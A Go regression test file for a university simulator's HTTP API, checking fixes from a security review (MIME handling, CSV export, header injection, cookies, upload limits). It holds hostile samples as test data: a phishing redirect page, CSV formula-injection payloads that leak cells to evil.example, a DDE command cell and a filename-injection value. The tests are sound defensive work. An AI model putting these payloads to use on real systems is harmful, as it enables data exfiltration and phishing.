package httpapi_test

// Regression tests for the findings of the security review (see
// docs/security.md): each reproduces the probe that showed the problem.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/utpl/simulador/backend/internal/config"
	"github.com/utpl/simulador/backend/internal/domain"
)

// A student chose the recording's MIME type, and the media endpoint echoed
// it: "audio/webm;a=b,text/html" made Chromium render the chunk the student
// uploaded as an HTML page on the app's origin, opened by the tutor.
func TestMediaIsServedAsCanonicalAudioNeverAsADocument(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	a := e.start(studentInGrp, "entrenamiento")
	e.mustAttempt(studentInGrp, http.MethodPost, "/api/attempts/"+a.ID+"/advance", map[string]int{"from": 0}, http.StatusOK)
	page := []byte(`<!doctype html><meta http-equiv="refresh" content="0;url=https://attacker.example/login"><h1>Su sesión expiró</h1>`)

	// The review's probe: the type is refused, so nothing is stored.
	probe := "/api/attempts/" + a.ID + "/recordings/rec-html-0001"
	e.expectRefusal(studentInGrp, http.MethodPut, probe, map[string]any{"phase": 1, "mimeType": "audio/webm;a=b,text/html"},
		http.StatusBadRequest, "invalid_mime")

	// Parameters other than codecs are dropped; a video container of an
	// audio-only take is served as audio.
	for i, tc := range []struct{ raw, want string }{
		{"audio/webm;codecs=opus", "audio/webm;codecs=opus"},
		{`AUDIO/OGG; codecs="opus"; rate=48k`, "audio/ogg;codecs=opus"},
		{"video/webm;codecs=opus", "audio/webm;codecs=opus"},
		{"audio/mp4;codecs=mp4a.40.2", "audio/mp4;codecs=mp4a.40.2"},
		{"audio/webm; x=<script>", ""},
		{"text/html", ""},
	} {
		res := e.do(studentInGrp, http.MethodPut, fmt.Sprintf("/api/attempts/%s/recordings/rec-type-%04d", a.ID, i),
			map[string]any{"phase": 1, "mimeType": tc.raw})
		if tc.want == "" {
			if res.Code != http.StatusBadRequest {
				t.Errorf("mimeType %q = %d, want 400", tc.raw, res.Code)
			}
			continue
		}
		if got := decode[struct {
			MimeType string `json:"mimeType"`
		}](t, res); res.Code != http.StatusOK || got.MimeType != tc.want {
			t.Errorf("mimeType %q = %d %q, want %q", tc.raw, res.Code, got.MimeType, tc.want)
		}
	}

	// A recording stored before the type was checked still plays, as the
	// audio type it names, and is never rendered as a page.
	old := domain.Recording{ID: "rec-stored-before", AttemptID: a.ID, Phase: 1, MimeType: "audio/webm;a=b,text/html", CreatedAt: e.clock.Now()}
	if _, err := e.store.CreateRecording(context.Background(), old); err != nil {
		t.Fatal(err)
	}
	base := "/api/attempts/" + a.ID + "/recordings/" + old.ID
	if res := e.do(studentInGrp, http.MethodPut, base+"/chunks/0", page); res.Code != http.StatusOK {
		t.Fatalf("chunk = %d %s", res.Code, res.Body)
	}
	for _, role := range []string{tutor, studentInGrp} {
		res := e.do(role, http.MethodGet, base+"/media", nil, "Sec-Fetch-Dest", "document")
		h := res.Header()
		if res.Code != http.StatusOK || res.Body.String() != string(page) {
			t.Fatalf("media as %s = %d", role, res.Code)
		}
		if ct := h.Get("Content-Type"); ct != "audio/webm" {
			t.Errorf("media as %s: Content-Type %q, want audio/webm", role, ct)
		}
		if cd := h.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") {
			t.Errorf("media as %s: Content-Disposition %q, want attachment", role, cd)
		}
		if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "sandbox") {
			t.Errorf("media as %s: CSP %q has no sandbox", role, csp)
		}
		if h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("media as %s: no nosniff", role)
		}
	}
	got := e.mustAttempt(tutor, http.MethodGet, "/api/attempts/"+a.ID, nil, http.StatusOK)
	raw := e.do(tutor, http.MethodGet, "/api/attempts/"+a.ID, nil).Body.String()
	if len(got.Recordings) == 0 || strings.Contains(raw, "text/html") {
		t.Errorf("the attempt still names the stored type: %s", raw)
	}
}

// After grading, the student could still save an edited transcript, and it
// replaced the tutor's correction (and the evidence computed from it).
func TestGradedTranscriptIsLockedForTheStudent(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ids := attemptFixture(e)
	base := "/api/attempts/" + ids["attempt"]
	transcript := base + "/recordings/" + ids["rec"] + "/transcript"
	a := e.mustAttempt(studentInGrp, http.MethodGet, base, nil, http.StatusOK)

	// Before any grade or correction the student may correct their own.
	if res := e.do(studentInGrp, http.MethodPut, transcript, transcriptBody("edited", "mi versión")); res.Code != http.StatusOK {
		t.Fatalf("student correction before grading = %d %s", res.Code, res.Body)
	}
	// The tutor's correction wins over the student's, even before grading.
	if res := e.do(tutor, http.MethodPut, transcript, transcriptBody("edited", "corrección del tutor")); res.Code != http.StatusOK {
		t.Fatalf("tutor correction = %d %s", res.Code, res.Body)
	}
	e.expectRefusal(studentInGrp, http.MethodPut, transcript, transcriptBody("edited", "reescrito"), http.StatusConflict, "transcript_corrected")

	a = e.finish(studentInGrp, a, 3)
	e.mustAttempt(tutor, http.MethodPost, base+"/grade", map[string]any{"levels": levelsAll(a, 3), "comments": ""}, http.StatusOK)

	// The review's probe: after the grade, the student's edit is refused...
	e.expectRefusal(studentInGrp, http.MethodPut, transcript, transcriptBody("edited", "reescrito después de la nota"),
		http.StatusConflict, "attempt_graded")
	res := e.do(studentInGrp, http.MethodPut, transcript, transcriptBody("edited", "reescrito después de la nota"))
	if msg := decode[apiError](t, res).Error.Message; !strings.Contains(msg, "calificó") {
		t.Errorf("message = %q, want a Spanish explanation", msg)
	}
	// ...and so is a live transcript sent late.
	e.expectRefusal(studentInGrp, http.MethodPut, transcript, transcriptBody("browser", "otra cosa"), http.StatusConflict, "attempt_graded")
	// The tutor may still correct it; the other roles never could.
	if res := e.do(tutor, http.MethodPut, transcript, transcriptBody("edited", "segunda corrección del tutor")); res.Code != http.StatusOK {
		t.Fatalf("tutor correction after grading = %d %s", res.Code, res.Body)
	}
	for role, want := range map[string]int{otherTutor: http.StatusNotFound, studentNoGrp: http.StatusNotFound, guest: http.StatusUnauthorized} {
		if res := e.do(role, http.MethodPut, transcript, transcriptBody("edited", "ajeno")); res.Code != want {
			t.Errorf("%s = %d, want %d", role, res.Code, want)
		}
	}
	got := decode[evidenceResp](t, e.do(studentInGrp, http.MethodGet, base, nil))
	if tr := got.Recordings[0].Transcript; tr == nil || tr.Text != "segunda corrección del tutor" {
		t.Fatalf("stored transcript = %+v", tr)
	}
}

// A transcript could be saved for a recording the student had deleted.
func TestNoTranscriptForADeletedRecording(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ids := attemptFixture(e)
	rec := "/api/attempts/" + ids["attempt"] + "/recordings/" + ids["rec"]
	if res := e.do(studentInGrp, http.MethodDelete, rec, nil); res.Code != http.StatusNoContent {
		t.Fatalf("delete = %d", res.Code)
	}
	e.expectRefusal(studentInGrp, http.MethodPut, rec+"/transcript", transcriptBody("edited", "texto"), http.StatusConflict, "recording_closed")
}

// The case-bank CSV export wrote formulas as they were (=HYPERLINK(...)
// leaking the next cell to another site when a tutor opened the file); the
// neutralised export must still import back to the same text.
func TestCaseCSVExportIsNeutralisedAndStillImportsBack(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	hostile := map[string]any{"degreeId": "derecho",
		"area":       `=HYPERLINK("http://evil.example/?leak="&C2,"Area")`,
		"title":      `=HYPERLINK("http://evil.example/?leak="&D2,"Ver caso")`,
		"facts":      `+cmd|' /C calc'!A0`,
		"questions":  []string{"@SUM(1+1)"},
		"followUps":  []string{"-1+1", "=1+1"},
		"keyPoints":  []string{"'=ya citado con apóstrofo"},
		"legalBases": []map[string]string{{"norm": "Constitución", "article": "76"}},
		"difficulty": "basico",
		"status":     "retired"}
	if res := e.do(tutor, http.MethodPost, "/api/admin/cases", hostile); res.Code != http.StatusCreated {
		t.Fatalf("create = %d %s", res.Code, res.Body)
	}
	export := func() []byte {
		res := e.do(tutor, http.MethodGet, "/api/admin/cases/export?format=csv&degree=derecho", nil)
		if res.Code != http.StatusOK {
			t.Fatalf("export = %d", res.Code)
		}
		return res.Body.Bytes()
	}
	exported := export()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(exported, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
			found = found || strings.Contains(cell, "HYPERLINK")
		}
	}
	if !found {
		t.Fatal("the hostile case is not in the export")
	}
	// Round trip: the neutralised cells import back to the original text.
	before := e.do(tutor, http.MethodGet, "/api/admin/cases/export?format=json&degree=derecho", nil).Body.String()
	res := e.do(tutor, http.MethodPost, "/api/admin/cases/import", multipartFile(t, "file", "casos.csv", exported))
	if res.Code != http.StatusOK || decode[map[string]int](t, res)["created"] != 0 {
		t.Fatalf("re-import = %d %s", res.Code, res.Body)
	}
	if after := e.do(tutor, http.MethodGet, "/api/admin/cases/export?format=json&degree=derecho", nil).Body.String(); after != before {
		t.Fatalf("the CSV round trip changed the bank")
	}
	if again := export(); !bytes.Equal(again, exported) {
		t.Fatal("export → import → export is not exact")
	}
}

// The degree query parameter was pasted into Content-Disposition, so
// degree=x"; filename="evil.html added a second filename.
func TestCaseExportFilenameCannotBeInjected(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.expectRefusal(tutor, http.MethodGet, "/api/admin/cases/export?format=csv&degree=x%22%3B%20filename%3D%22evil.html", nil,
		http.StatusNotFound, "degree_not_found")
	for _, path := range []string{"/api/admin/cases/export?format=csv&degree=derecho", "/api/admin/cases/export?format=json"} {
		res := e.do(tutor, http.MethodGet, path, nil)
		cd := res.Header().Get("Content-Disposition")
		disposition, params, err := mime.ParseMediaType(cd)
		if res.Code != http.StatusOK || err != nil || disposition != "attachment" || len(params) != 1 {
			t.Fatalf("%s: %d Content-Disposition = %q (%v %v)", path, res.Code, cd, params, err)
		}
	}
}

// The session cookie was "simulador_session" and Secure only when the
// server recognised HTTPS, so behind a TLS proxy with the default settings
// it went out without Secure. It is now a __Host- cookie, Secure by
// default; browsers and Go's cookie jar treat http://127.0.0.1 and
// http://localhost as secure, so local runs keep working.
func TestSessionCookieIsHostPrefixedAndSecureByDefault(t *testing.T) {
	t.Parallel()
	login := map[string]string{"email": "tutor@utpl.edu.ec", "password": testPassword}
	e := newEnv(t)
	res := e.do(guest, http.MethodPost, "/api/auth/login", login)
	var got *http.Cookie
	for _, c := range res.Result().Cookies() {
		got = c
	}
	if got == nil || got.Name != "__Host-simulador_session" || !got.Secure || !got.HttpOnly || got.Path != "/" || got.Domain != "" ||
		got.SameSite != http.SameSiteLaxMode {
		t.Fatalf("session cookie over plain HTTP with the defaults = %+v", got)
	}

	// Go's cookie jar (API tests, upload-bench) sends it back to 127.0.0.1.
	srv := httptest.NewServer(e.handler)
	defer srv.Close()
	jar, _ := cookiejar.New(nil)
	client := &http.Client{Jar: jar}
	body, _ := json.Marshal(login)
	r, err := client.Post(srv.URL+"/api/auth/login", "application/json", bytes.NewReader(body))
	if err != nil || r.StatusCode != http.StatusOK {
		t.Fatalf("login over loopback = %v %v", r, err)
	}
	r.Body.Close()
	r, err = client.Get(srv.URL + "/api/admin/access")
	if err != nil || r.StatusCode != http.StatusOK {
		t.Fatalf("the jar did not send the Secure cookie to %s: %v %v", srv.URL, r, err)
	}
	r.Body.Close()

	// COOKIE_SECURE=never, for a plain-HTTP address that is not loopback:
	// no Secure, so no prefix (browsers refuse a __Host- cookie without it).
	plain := newEnv(t, func(c *config.Config) { c.CookieSecure = "never" })
	res = plain.do(guest, http.MethodPost, "/api/auth/login", login)
	for _, c := range res.Result().Cookies() {
		if c.Name != "simulador_session" || c.Secure {
			t.Fatalf("COOKIE_SECURE=never: cookie %+v", c)
		}
	}
}

// HSTS had no includeSubDomains.
func TestHSTSCoversSubdomains(t *testing.T) {
	t.Parallel()
	e := newEnv(t, func(c *config.Config) { c.TrustProxy = true })
	res := e.do(guest, http.MethodGet, "/api/health", nil, "X-Forwarded-Proto", "https")
	if got := res.Header().Get("Strict-Transport-Security"); got != "max-age=31536000; includeSubDomains" {
		t.Fatalf("HSTS = %q", got)
	}
}

// A password set in NFC form was refused when typed in NFD form (as some
// keyboards and systems send accents), and e-mail lower-casing folded the
// Kelvin sign (U+212A) into an ASCII k, so "\u212Aate@…" signed in as kate.
func TestCredentialsAreUnicodeNormalised(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	nfc, nfd := "Contraseña-é-123", "Contrasen\u0303a-e\u0301-123"
	if _, err := e.auth.CreateUser(ctx, "kate@utpl.edu.ec", nfc, domain.RoleStudent, "Kate Prueba"); err != nil {
		t.Fatal(err)
	}
	if res := e.do(guest, http.MethodPost, "/api/auth/login", map[string]string{"email": "kate@utpl.edu.ec", "password": nfd}); res.Code != http.StatusOK {
		t.Fatalf("NFD password = %d, want 200", res.Code)
	}
	if res := e.do(guest, http.MethodPost, "/api/auth/login", map[string]string{"email": "\u212Aate@utpl.edu.ec", "password": nfc}); res.Code != http.StatusUnauthorized {
		t.Fatalf("Kelvin-sign e-mail = %d, want 401 (a different address)", res.Code)
	}
}

// A body over the route's limit was answered 413 only when Content-Length
// announced it; sent chunked, the same body got 400.
func TestOversizedBodyWithoutContentLengthIs413(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	huge := `{"email":"` + strings.Repeat("a", 1<<20) + `","password":"x"}`
	req := httptest.NewRequest(http.MethodPost, "/api/auth/login", io.MultiReader(strings.NewReader(huge)))
	req.ContentLength = -1 // chunked: the size is unknown until the body is read
	req.Header.Set("Content-Type", "application/json")
	res := httptest.NewRecorder()
	e.handler.ServeHTTP(res, req)
	if res.Code != http.StatusRequestEntityTooLarge {
		t.Fatalf("chunked oversized login = %d %s", res.Code, res.Body)
	}
	if msg := decode[apiError](t, res).Error.Message; msg != "Los datos enviados superan el tamaño permitido." {
		t.Fatalf("message = %q", msg)
	}
}

// rawRequest sends a request's head and part of its body on a fresh
// connection and returns the connection, to read the answer from.
func rawRequest(t *testing.T, addr, head string, body []byte) (net.Conn, *bufio.Reader) {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(append([]byte(head), body...)); err != nil {
		t.Fatal(err)
	}
	// A guard against a hang, far above any answer's time.
	_ = conn.SetReadDeadline(time.Now().Add(20 * time.Second))
	return conn, bufio.NewReader(conn)
}

func chunkHead(e *env, path string, length int) string {
	return fmt.Sprintf("PUT %s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n"+
		"Cookie: %s=%s\r\n\r\n", path, length, sessionCookieName, e.cookies[studentInGrp].Value)
}

// A slow upload that hit the server's read timeout was answered 500 and
// logged at ERROR, so anyone could fill the error log.
func TestBodyReadTimeoutIsA408NotAnError(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ids := attemptFixture(e)
	srv := httptest.NewUnstartedServer(e.handler)
	srv.Config.ReadTimeout = 500 * time.Millisecond
	srv.Start()
	defer srv.Close()
	path := "/api/attempts/" + ids["attempt"] + "/recordings/" + ids["rec"] + "/chunks/1"
	conn, r := rawRequest(t, srv.Listener.Addr().String(), chunkHead(e, path, 1000), []byte("only a few bytes"))
	defer conn.Close()
	res, err := http.ReadResponse(r, nil)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusRequestTimeout {
		t.Fatalf("slow body = %d, want 408", res.StatusCode)
	}
	if logs := e.logs.String(); strings.Contains(logs, "level=ERROR") {
		t.Fatalf("a client's slow body was logged as a server error:\n%s", logs)
	}
}

// A chunk refused before its body is read (here: the recording is
// complete) was answered only after the server had drained up to 256 KB
// of the body, i.e. after the read timeout for a slow sender. The answer
// now comes at once and closes the connection.
func TestRefusedUploadIsAnsweredWithoutWaitingForTheBody(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ids := attemptFixture(e)
	base := "/api/attempts/" + ids["attempt"] + "/recordings/" + ids["rec"]
	if res := e.do(studentInGrp, http.MethodPost, base+"/complete", map[string]any{"chunks": 1, "durationMs": 2000}); res.Code != http.StatusOK {
		t.Fatalf("complete = %d %s", res.Code, res.Body)
	}
	srv := httptest.NewUnstartedServer(e.handler)
	srv.Config.ReadTimeout = time.Minute
	srv.Start()
	defer srv.Close()
	conn, r := rawRequest(t, srv.Listener.Addr().String(), chunkHead(e, base+"/chunks/5", 100_000), []byte("the rest never comes"))
	defer conn.Close()
	res, err := http.ReadResponse(r, nil)
	if err != nil {
		t.Fatalf("no answer while the body is incomplete: %v", err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusConflict || !res.Close {
		t.Fatalf("refused chunk = %d (close %v), want 409 and the connection closed", res.StatusCode, res.Close)
	}
}
